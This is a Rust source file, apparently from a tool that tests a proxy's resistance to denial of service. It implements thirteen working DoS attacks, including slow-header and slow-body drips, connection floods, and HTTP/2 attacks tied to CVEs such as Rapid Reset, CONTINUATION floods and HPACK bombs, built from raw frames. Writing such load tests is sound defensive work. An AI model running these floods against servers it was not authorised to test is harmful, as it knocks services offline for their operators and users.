//! The attacks, each a loop over bytes until its time is up.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use super::connect;

/// One way to make a proxy work or hold more than the attacker does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    /// Many heads that arrive a field at a time.
    SlowHead,
    /// Many bodies that arrive a byte at a time.
    SlowBody,
    /// Heads of many long fields.
    HugeHeads,
    /// Requests without end on one connection whose answers nobody reads.
    Pipelining,
    /// One byte of body in each long chunk line.
    ChunkExtensions,
    /// Connections that are opened and left.
    ConnectionFlood,
    /// CVE-2023-44487: requests that are reset at once.
    RapidReset,
    /// CVE-2024-27316 and its kind: a header block that does not end.
    Continuation,
    /// A small block of references to a large entry of the dynamic table.
    HpackBomb,
    /// CVE-2019-9512 and CVE-2019-9515: frames that must be answered.
    PingFlood,
    SettingsFlood,
    /// CVE-2019-9517: answers that may not be sent.
    ZeroWindow,
    /// CVE-2019-9518: DATA without data.
    EmptyFrames,
}

pub(super) const ATTACKS: [Attack; 13] = [
    Attack::SlowHead,
    Attack::SlowBody,
    Attack::HugeHeads,
    Attack::Pipelining,
    Attack::ChunkExtensions,
    Attack::ConnectionFlood,
    Attack::RapidReset,
    Attack::Continuation,
    Attack::HpackBomb,
    Attack::PingFlood,
    Attack::SettingsFlood,
    Attack::ZeroWindow,
    Attack::EmptyFrames,
];

const SLOW_CONNECTIONS: usize = 500;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// GET, http, /, authority `x`, from the static table where it has them (RFC 7541 appendix A).
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'x'];
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 0x01, b'x'];
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

impl Attack {
    pub(super) fn named(name: &str) -> Option<Self> {
        ATTACKS.into_iter().find(|attack| attack.name() == name)
    }

    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::SlowHead => "slow-head",
            Self::SlowBody => "slow-body",
            Self::HugeHeads => "huge-heads",
            Self::Pipelining => "pipelining",
            Self::ChunkExtensions => "chunk-extensions",
            Self::ConnectionFlood => "connection-flood",
            Self::RapidReset => "rapid-reset",
            Self::Continuation => "continuation",
            Self::HpackBomb => "hpack-bomb",
            Self::PingFlood => "ping-flood",
            Self::SettingsFlood => "settings-flood",
            Self::ZeroWindow => "zero-window",
            Self::EmptyFrames => "empty-frames",
        }
    }

    pub(super) const fn is_http2(self) -> bool {
        matches!(
            self,
            Self::RapidReset
                | Self::Continuation
                | Self::HpackBomb
                | Self::PingFlood
                | Self::SettingsFlood
                | Self::ZeroWindow
                | Self::EmptyFrames
        )
    }

    /// Goes on until the time is up, with a new connection wherever the old one was closed.
    pub(super) fn send(self, address: SocketAddr, time: Duration) {
        let end = Instant::now() + time;
        match self {
            Self::SlowHead => drip(address, end, b"GET / HTTP/1.1\r\nHost: x\r\n", b"A: b\r\n"),
            Self::SlowBody => {
                let head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n";
                drip(address, end, head, b"x");
            }
            Self::ConnectionFlood => {
                let mut held = Vec::new();
                while Instant::now() < end {
                    held.extend(connect(address).ok());
                    if held.len() >= 2000 {
                        held.clear();
                    }
                }
            }
            _ => self.flood(address, end),
        }
    }

    /// One connection after another: what opens it, then the same bytes again and again.
    fn flood(self, address: SocketAddr, end: Instant) {
        while Instant::now() < end {
            let Ok(mut stream) = connect(address) else { continue };
            let mut next_id = 1;
            if stream.write_all(&self.opening()).is_err() {
                continue;
            }
            while Instant::now() < end {
                let bytes = self.wave(&mut next_id);
                if stream.write_all(&bytes).is_err() || is_closed(&mut stream, self) {
                    break;
                }
            }
        }
    }

    fn opening(self) -> Vec<u8> {
        match self {
            Self::ChunkExtensions => {
                b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec()
            }
            _ if !self.is_http2() => Vec::new(),
            Self::ZeroWindow => {
                // SETTINGS_INITIAL_WINDOW_SIZE = 0
                [PREFACE, &frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])].concat()
            }
            Self::Continuation => [PREFACE, &frame(4, 0, 0, &[]), &frame(1, 0, 1, GET)].concat(),
            Self::EmptyFrames => {
                [PREFACE, &frame(4, 0, 0, &[]), &frame(1, END_HEADERS, 1, POST)].concat()
            }
            _ => [PREFACE, &frame(4, 0, 0, &[])].concat(),
        }
    }

    /// About 16 KiB of attack.
    fn wave(self, next_id: &mut u32) -> Vec<u8> {
        let mut id = || {
            *next_id += 2;
            *next_id - 2
        };
        match self {
            Self::HugeHeads => {
                let field = format!("X-Long: {}\r\n", "x".repeat(500));
                format!("GET / HTTP/1.1\r\nHost: x\r\n{}\r\n", field.repeat(90)).into_bytes()
            }
            Self::Pipelining => b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(500),
            Self::ChunkExtensions => {
                format!("1;{}\r\nx\r\n", "e".repeat(200)).repeat(70).into_bytes()
            }
            Self::RapidReset => (0..300)
                .flat_map(|_| {
                    let id = id();
                    let request = frame(1, END_STREAM | END_HEADERS, id, GET);
                    [request, frame(3, 0, id, &[0, 0, 0, 8])].concat()
                })
                .collect(),
            Self::Continuation => frame(9, 0, 1, &[0x00, 1, b'a', 1, b'b'].repeat(20)).repeat(150),
            Self::HpackBomb => {
                // One entry of 4000 bytes goes into the table, and a thousand references follow.
                let mut block = GET.to_vec();
                block.extend_from_slice(&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
                block.extend_from_slice(&[b'v'; 4000]);
                block.extend_from_slice(&[0xbe; 1000]);
                frame(1, END_STREAM | END_HEADERS, id(), &block).repeat(1)
            }
            Self::PingFlood => frame(6, 0, 0, &[0; 8]).repeat(900),
            Self::SettingsFlood => frame(4, 0, 0, &[]).repeat(1500),
            Self::ZeroWindow => {
                (0..100).flat_map(|_| frame(1, END_STREAM | END_HEADERS, id(), GET)).collect()
            }
            Self::EmptyFrames => frame(0, 0, 1, &[]).repeat(1500),
            Self::SlowHead | Self::SlowBody | Self::ConnectionFlood => Vec::new(),
        }
    }
}

/// What a good client sends.
pub(super) fn one_request() -> Vec<u8> {
    [PREFACE, &frame(4, 0, 0, &[]), &frame(1, END_STREAM | END_HEADERS, 1, GET)].concat()
}

/// Whether the proxy hung up. Where answers are what floods, they stay unread.
fn is_closed(stream: &mut TcpStream, attack: Attack) -> bool {
    if matches!(attack, Attack::Pipelining | Attack::PingFlood | Attack::SettingsFlood) {
        return false;
    }
    matches!(stream.read(&mut [0; 65536]), Ok(0))
}

fn drip(address: SocketAddr, end: Instant, opening: &[u8], drop: &[u8]) {
    let mut held: Vec<TcpStream> = Vec::new();
    while Instant::now() < end {
        held.retain_mut(|stream| stream.write_all(drop).is_ok());
        while held.len() < SLOW_CONNECTIONS {
            let Ok(mut stream) = connect(address) else { break };
            if stream.write_all(opening).is_ok() {
                held.push(stream);
            }
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// RFC 9113 §4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

#[cfg(test)]
mod tests {
    use super::{ATTACKS, Attack, frame};

    #[test]
    fn a_frame_has_nine_bytes_before_its_payload() {
        assert_eq!(frame(6, 1, 3, b"ab"), [0, 0, 2, 6, 1, 0, 0, 0, 3, b'a', b'b']);
    }

    #[test]
    fn every_attack_has_a_name_of_its_own() {
        for attack in ATTACKS {
            assert_eq!(Attack::named(attack.name()), Some(attack));
        }
    }
}
